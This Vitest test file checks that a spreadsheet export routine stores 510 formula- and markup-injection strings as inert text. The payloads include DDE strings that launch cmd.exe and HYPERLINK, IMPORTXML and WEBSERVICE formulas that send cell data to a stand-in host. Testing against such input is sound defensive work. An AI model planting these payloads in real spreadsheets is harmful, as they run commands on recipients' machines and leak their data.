// @vitest-environment node
import { inflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { workbookOf } from '@/fields/spreadsheet/template'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0000=', '＝', '＋', '－', '＠', ' =', '"=', "'=", ';=', '|']
const bodies = ['cmd|\'/C calc\'!A0', 'HYPERLINK("http://example.invalid?x="&A1,"点这里")', 'IMPORTXML("http://example.invalid","//a")', 'DDE("cmd";"/C calc";"__")',
  '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://example.invalid")', '10+20+cmd|\' /C calc\'!A0', 'INDIRECT("A1")', 'MSEXCEL|\'\\..\\..\\cmd.exe\'!x', '</t></is><f>1+1</f>',
  '<f>1</f>', '<![CDATA[=1]]>', '&#61;1+1', 'IF(1,CALL("x"),0)', 'EXEC("calc")', 'REGISTER("x","y")', '_xlfn.LET(x,1,x)', 'A1', '{1,2}', '2+5+cmd', '"a"&"b"',
  'ROW()', 'NOW()', 'RAND()', 'T(1)', 'N(1)', 'CHAR(61)', '\u202e1+1', '💉1']
/** 510 of them: what a spreadsheet would take for a formula, or for markup of its own. */
const payloads = starts.flatMap((start) => bodies.map((body) => start + body))

/** The texts of the parts of a ZIP file, by name, from its central directory. */
function partsOf(zip: Buffer): Map<string, string> {
  const parts = new Map<string, string>()
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]))
  for (let at = zip.readUInt32LE(end + 16), left = zip.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [method, size, name, extra, comment, local] = [zip.readUInt16LE(at + 10), zip.readUInt32LE(at + 20), zip.readUInt16LE(at + 28),
      zip.readUInt16LE(at + 30), zip.readUInt16LE(at + 32), zip.readUInt32LE(at + 42)]
    const from = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
    const content = zip.subarray(from, from + size)
    parts.set(zip.toString('utf8', at + 46, at + 46 + name), (method === 8 ? inflateRawSync(content) : content).toString('utf8'))
    at += 46 + name + extra + comment
  }
  return parts
}

describe('a workbook that is given out', () => {
  it('holds texts as texts: five hundred payloads become neither a formula nor markup', async () => {
    const bytes = Buffer.from(await (await workbookOf('名册', [['姓名', '内容'], ...payloads.map((payload, n) => [`第${n}行`, payload])])).arrayBuffer())
    const parts = partsOf(bytes)
    const sheet = parts.get('xl/worksheets/sheet1.xml') ?? ''

    expect(payloads.length).toBeGreaterThanOrEqual(500)
    expect(sheet).not.toMatch(/<f[\s>/]/)
    const cells = [...sheet.matchAll(/<c [^>]*r="B(\d+)"[^>]*>/g)].filter(([, row]) => Number(row) > 1)
    expect(cells).toHaveLength(payloads.length)
    expect(cells.filter(([cell]) => !/ t="(s|inlineStr|str)"/.test(cell))).toEqual([])
    expect([...parts.keys()].filter((name) => /externalLink|connections|macro|vba/i.test(name))).toEqual([])
    for (const [name, content] of parts) if (name.endsWith('.xml')) expect([name, /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(content)]).toEqual([name, false])
  })
})
